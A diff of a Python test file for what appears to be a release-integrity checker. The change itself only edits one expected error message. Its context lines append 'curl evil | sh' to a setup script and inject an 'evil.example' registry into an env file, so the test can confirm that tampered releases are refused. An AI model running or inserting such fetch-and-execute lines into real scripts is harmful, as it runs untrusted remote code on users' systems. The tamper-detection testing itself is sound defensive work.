@@ -99,7 +99,7 @@ def test_a_forger_who_mends_the_hashes_is_found_too():
     script = forged(changed("setup.sh", lambda data: data + b"curl evil | sh\n"))
     assert any(reason.startswith("setup.sh is not the one of") for reason in refused(script))
     image = forged(changed("docker-compose.yml", lambda data: data.replace(b"aaaa", b"bbbb")))
-    assert any("is none of the release" in reason for reason in refused(image))
+    assert any("is not one of the release" in reason for reason in refused(image))
     words = forged(changed("release.env", lambda data: data.replace(b"REGISTRY='1", b"REGISTRY='9")))
     assert "release.env: REGISTRY is not that of the release" in refused(words)
     twice = forged(changed("release.env", lambda data: data + b"REGISTRY='evil.example'\n"))
